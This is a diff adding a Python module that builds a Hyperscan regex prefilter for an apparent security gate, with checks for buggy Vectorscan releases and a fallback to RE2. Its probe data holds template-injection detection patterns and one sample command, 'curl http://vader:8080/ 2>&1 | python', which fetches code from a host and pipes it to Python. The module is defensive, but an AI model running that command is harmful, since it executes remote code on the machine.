@@ -1,0 +1,150 @@
+"""All expressions in one Hyperscan database: some microseconds for a kilobyte, however many expressions there are.
+
+Importing this fails where Hyperscan has no wheel; `engine` then does without. A database takes seconds to build, and
+building one lets other threads run, as a scan does.
+
+The trap: most wheels hold Vectorscan, and its releases 5.4.11 and 5.4.12 miss matches, some of them everywhere behind
+the first 15 bytes (VectorCamp/vectorscan issues 317, 358 and 382). Intel's own 5.4.2 does not. So the library is tried
+before it is used at all, and each expression on its own examples; one that is missed is left to RE2.
+"""
+
+import re
+from collections import deque
+from collections.abc import Iterable, Iterator, Sequence
+from typing import Any, cast
+
+import hyperscan as library
+
+from services.gate.patterns import Pattern, compile_pattern
+
+hyperscan = cast(Any, library)  # an extra, which may be missing where types are checked
+
+# ALLOWEMPTY is for the sentinel; a match is told once and without its start, for RE2 looks again anyway.
+_COMMON_FLAGS = hyperscan.HS_FLAG_UTF8 | hyperscan.HS_FLAG_SINGLEMATCH | hyperscan.HS_FLAG_ALLOWEMPTY
+_FLAGS = {"i": hyperscan.HS_FLAG_CASELESS, "m": hyperscan.HS_FLAG_MULTILINE, "s": hyperscan.HS_FLAG_DOTALL, "u": 0}
+
+# Repeats with a high bound take long to compile. Without the bound an expression matches more, which is allowed.
+_REPEATS_KEPT_MAX = 16
+_REPEAT = re.compile(r"\\.|\[\^?\]?(?:\\.|\[:\^?\w+:\]|[^\]\\])*\]|\{(?P<least>\d+),(?P<most>\d+)\}", re.DOTALL)
+
+_FAULTY_RELEASES = ("5.4.11", "5.4.12")
+# What faulty releases miss, from their issues and from our patterns: expressions, and a text with the first of them.
+_PROBES = (
+    ((r"<%[\s\S]+%>", r"<[^<>]+:(?:include|output)", r"[\$#]{[\s\S]+\([\s\S]*\)[\s\S]*}"), "<%out.print();int a%>"),
+    ((r"(?:\{\{|\{%|\$\{|#\{|<%=?|\[\[)[^{}]{0,120}(?:T\(java\.|child_process)",), "${T(java.lang)}"),
+    ((r"(?s)curl.*\|\s*python",), "curl http://vader:8080/ 2>&1 | python"),
+    ((r"(?i)^.*TAPIOCA.*EX.*$", r"(?i)^.*BOBA.*GUY.*$", r"(?i)^GUCCI FRANCE.*$"), "TAPIOCA HOUSE TUXTLA GUTIER MEX"),
+)
+# Vectors are up to 64 bytes long; a match may begin at any place in one.
+_SHIFTS = range(67)
+
+
+class HyperscanEngine:
+    """An `Engine`; any thread may ask at any time."""
+
+    seconds_per_kib = 0.001
+
+    def __init__(self, patterns: Sequence[Pattern]) -> None:
+        self._sentinel = len(patterns)
+        # RE2 takes a few forms that Hyperscan does not; such an expression is always a candidate.
+        self._database, unread = _build(patterns)
+        # Every scan needs a scratch space of its own; those of finished scans are used again.
+        self._scratches: deque[Any] = deque()
+        self._unread: frozenset[int] = frozenset()
+        self._unread = frozenset(unread) | frozenset(self._find_missed(patterns))
+
+    def find_candidates(self, text: bytes) -> Sequence[int] | None:
+        found: list[int] = []
+        scratch = self._take_scratch()
+        try:
+            self._database.scan(text, _note, context=found, scratch=scratch)
+        except hyperscan.error:
+            return None
+        self._scratches.append(scratch)
+        # The sentinel matches where a text ends, so without it the scan did not come there.
+        if self._sentinel not in found:
+            return None
+        found.remove(self._sentinel)
+        return list(self._unread.union(found)) if self._unread else found
+
+    def _find_missed(self, patterns: Sequence[Pattern]) -> Iterator[int]:
+        """Those that this database does not find in their own examples, wherever in a text they stand."""
+        for number, pattern in enumerate(patterns):
+            regex = compile_pattern(pattern)
+            shifted = (f"{' ' * shift}{text}".encode() for text in pattern.must_match for shift in _SHIFTS)
+            if any(number not in (self.find_candidates(text) or ()) and regex.search(text) for text in shifted):
+                yield number
+
+    def _take_scratch(self) -> Any:
+        try:
+            return self._scratches.pop()
+        except IndexError:
+            return hyperscan.Scratch(self._database)
+
+
+def is_trustworthy() -> bool:
+    """Whether this is no release with known faults, and finds what those miss."""
+    release = str(_compile([], []).info())
+    return not any(faulty in release for faulty in _FAULTY_RELEASES) and all(
+        _finds(expressions, text) for expressions, text in _PROBES
+    )
+
+
+def _finds(expressions: Sequence[str], text: str) -> bool:
+    engine = HyperscanEngine([Pattern(f"probe.{number}", source) for number, source in enumerate(expressions)])
+    return all(0 in (engine.find_candidates(f"{' ' * shift}{text}".encode()) or ()) for shift in _SHIFTS)
+
+
+def _note(number: int, _start: int, _end: int, _flags: int, found: object) -> None:
+    cast(list[int], found).append(number)
+
+
+def _build(patterns: Sequence[Pattern]) -> tuple[Any, tuple[int, ...]]:
+    """The database, and the numbers of those expressions that are not in it."""
+    everything = range(len(patterns))
+    try:
+        return _compile(patterns, everything), ()
+    except hyperscan.error:
+        readable = [number for number in everything if _is_readable(patterns[number])]
+        return _compile(patterns, readable), tuple(sorted(set(everything) - set(readable)))
+
+
+def _is_readable(pattern: Pattern) -> bool:
+    try:
+        _compile([pattern], [0])
+    except hyperscan.error:
+        return False
+    return True
+
+
+def _compile(patterns: Sequence[Pattern], numbers: Iterable[int]) -> Any:
+    """A sentinel numbered after all patterns stands behind them."""
+    chosen = [(number, loosen(patterns[number].source), _flags_of(patterns[number])) for number in numbers]
+    chosen.append((len(patterns), r"\z", _COMMON_FLAGS))
+    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
+    database.compile(
+        expressions=[source.encode() for _, source, _ in chosen],
+        ids=[number for number, _, _ in chosen],
+        flags=[flags for _, _, flags in chosen],
+        elements=len(chosen),
+    )
+    return database
+
+
+def _flags_of(pattern: Pattern) -> int:
+    flags = _COMMON_FLAGS
+    for flag in pattern.flags:
+        flags |= _FLAGS[flag]
+    return flags
+
+
+def loosen(source: str) -> str:
+    """An expression that matches wherever this one does, without its long repeats."""
+    # Expressions are handed over as C strings, which end at a NUL.
+    source = source.replace("\0", r"\x00")
+    return source if r"\Q" in source else _REPEAT.sub(_loosen_repeat, source)
+
+
+def _loosen_repeat(part: re.Match[str]) -> str:
+    most = part["most"]
+    return f"{{{part['least']},}}" if most and int(most) > _REPEATS_KEPT_MAX else part[0]
